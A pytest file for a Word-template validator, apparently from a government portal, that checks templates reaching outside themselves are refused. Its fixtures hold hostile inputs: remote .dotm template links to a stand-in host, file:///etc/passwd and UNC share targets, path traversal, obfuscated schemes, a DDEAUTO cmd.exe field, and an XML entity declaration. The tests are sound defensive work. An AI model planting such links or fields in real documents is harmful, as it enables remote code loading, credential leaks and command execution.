"""A Word template reaches nothing outside of itself, however that is spelt."""

from __future__ import annotations

import pytest

from portal.decrees.documents import package, word
from portal.errors import BadInput
from tests.decrees.test_documents import packed

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
P = "http://schemas.openxmlformats.org/package/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
IMAGE = f"{R}/image"


def links(text: str, encoding: str = "utf-8") -> bytes:
    """The built-in template whose settings have this relationship."""
    head = f'<?xml version="1.0" encoding="{encoding}"?>'
    return packed(**{"word/_rels/settings.xml.rels": (head + text).encode(encoding)})  # type: ignore[arg-type]


def within(text: str) -> str:
    return f'<Relationships xmlns="{P}">{text}</Relationships>'


def link(target: str, kind: str = IMAGE, mode: str = "") -> bytes:
    told = f' TargetMode="{mode}"' if mode else ""
    return links(within(f'<Relationship Id="r9" Type="{kind}" Target="{target}"{told}/>'))


def body(text: str) -> bytes:
    """The built-in template with this in its footer, which is XML of Word's own."""
    vml = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
    return packed(**{"word/footer9.xml": f"<w:ftr xmlns:w='{W}' {vml}>{text}</w:ftr>"})


def typed(kind: str) -> bytes:
    """The built-in template with a part of this type."""
    return packed(**{"[Content_Types].xml": f'<Types><Default Extension="x" contentType="{kind}"/></Types>'})


def code(*runs: str) -> str:
    """A field whose code Word has cut into runs."""
    cut = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:p>{begin}{cut}{end}</w:p>"


WEB = "http://jahat.example/x.dotm"
EXTERNAL = f'TargetMode="External" Id="r9" Type="{IMAGE}" Target="{WEB}"'
BROKEN = EXTERNAL.replace(" ", "\n").replace("=", " =\n")
OUTSIDE = {
    "external": link(WEB, mode="External"),
    "external in capitals": link(WEB, mode="EXTERNAL"),
    "external with blanks": link(WEB, mode=" External&#9;"),
    "another mode": link("x.png", mode="Remote"),
    "no mode": link(WEB),
    "a mode that lies": link(WEB, mode="Internal"),
    "a file": link("file:///etc/passwd"),
    "a file in capitals": link("FILE:///C:/x"),
    "UNC": link(r"\\10.0.0.7\share\x.png"),
    "UNC with slashes": link("//10.0.0.7/share/x.png"),
    "UNC behind percent signs": link("%5C%5C10.0.0.7%5Cshare"),
    "a scheme behind percent signs": link("http%3A//jahat.example"),
    "a scheme behind them twice": link("http%253A//jahat.example"),
    "a scheme with a tab in it": link("ht&#9;tp://jahat.example"),
    "a way out": link("../../secret.png"),
    "a way out from the top": link("/../secret.png"),
    "a way out behind percent signs": link("%2e%2e/%2e%2e/secret.png"),
    "a prefix": links(f'<p:Relationships xmlns:p="{P}"><p:Relationship {EXTERNAL}/></p:Relationships>'),
    "no namespace": links(f"<Relationships><Relationship {EXTERNAL}/></Relationships>"),
    "other quotes": links(within(f"<Relationship {EXTERNAL}/>".replace('"', "'"))),
    "a break in the tag": links(within(f"<Relationship\n{BROKEN}></Relationship>")),
    "written in numbers": links(within(f"<Relationship {EXTERNAL}/>").replace("Ext", "&#69;xt")),
    "UTF-16": links(within(f"<Relationship {EXTERNAL}/>"), "utf-16"),
    "a hyperlink to a share": link("file://10.0.0.7/x", f"{R}/hyperlink", "External"),
    "what calls itself a hyperlink": link(WEB, "http://jahat.example/hyperlink", "External"),
    "the word in the address": link("http://jahat.example/hyperlink", f"{R}/attachedTemplate", "External"),
    "a template that is inside": link("template.dotx", f"{R}/attachedTemplate"),
    "a chunk": link("chunk.html", f"{R}/aFChunk"),
    "an object": link("embeddings/o.xml", f"{R}/oleObject"),
    "a workbook": link("embeddings/o.xlsx", f"{R}/package"),
}  # fmt: skip
CARRIED = {
    "a chunk's place": body("<w:altChunk/>"),
    "an object's place": body("<w:p><w:r><w:object/></w:r></w:p>"),
    "a picture by address": body('<w:pict><v:imagedata src="http://jahat.example/x.png"/></w:pict>'),
    "a picture by link": body('<w:pict><v:imagedata o:href="//10.0.0.7/x.png"/></w:pict>'),
    "a field": body(code(' INCLUDEPICTURE "http://jahat.example/x.png" ')),
    "a field in pieces": body(code(" includ", "ePict", "ure x")),
    "a simple field": body('<w:fldSimple w:instr=" IncludeText C:/x "/>'),
    "a field that was deleted": body('<w:p><w:delInstrText>LINK Excel.Sheet x</w:delInstrText></w:p>'),
    "a field made by a field": body(code(f'</w:instrText></w:r>{code("QUOTE 73 78")}<w:r><w:instrText>')),
    "an old exchange": body(code("DDEAUTO c:/windows/system32/cmd.exe x")),
    "a link to a share": body(code(r'HYPERLINK "\\10.0.0.7\x"')),
    "a macro's type": typed("application/vnd.ms-word.document.macroEnabled.main+xml"),
    "a page's type": typed("text/HTML"),
}  # fmt: skip
NO_WORD = {
    "entities": links(f'<!DOCTYPE r [<!ENTITY e "{WEB}">]><Relationships xmlns="{P}"/>'),
    "no XML": links("<Relationships"),
    "two parts of one name": packed(**{"WORD/document.xml": "<x/>"}),
    "a part above": packed(**{"../x.xml": "<x/>"}),
    "a part for Windows": packed(**{"word\\x.xml": "<x/>"}),
}


@pytest.mark.parametrize(
    ("content", "words"),
    [
        *(pytest.param(content, "dari luar berkas", id=name) for name, content in OUTSIDE.items()),
        *(pytest.param(content, "selain teks dan gambar", id=name) for name, content in CARRIED.items()),
        *(pytest.param(content, "bukan dokumen Word", id=name) for name, content in NO_WORD.items()),
    ],
)
def test_what_reaches_outside_is_refused(content: bytes, words: str) -> None:
    with pytest.raises(BadInput) as refused:
        package.ensure_plain(content)
    assert words in refused.value.sentence


HARMLESS = {
    "as it comes": word.built_in(),
    "a picture inside": link("media/image1.png"),
    "a picture by its whole way": link("/word/media/image1.png"),
    "beside": link("../customXml/item1.xml"),
    "a link to click": link("https://contoh.go.id/a?b=%20", f"{R}/hyperlink", "External"),
    "an address to write to": link("mailto:surat@contoh.go.id", f"{R}/hyperlink", "External"),
    "page numbers": body(code(" PAGE \\* MERGEFORMAT ") + code('HYPERLINK "https://contoh.go.id/link"')),
}


@pytest.mark.parametrize("content", HARMLESS.values(), ids=HARMLESS)
def test_what_stays_inside_is_taken(content: bytes) -> None:
    package.ensure_plain(content)
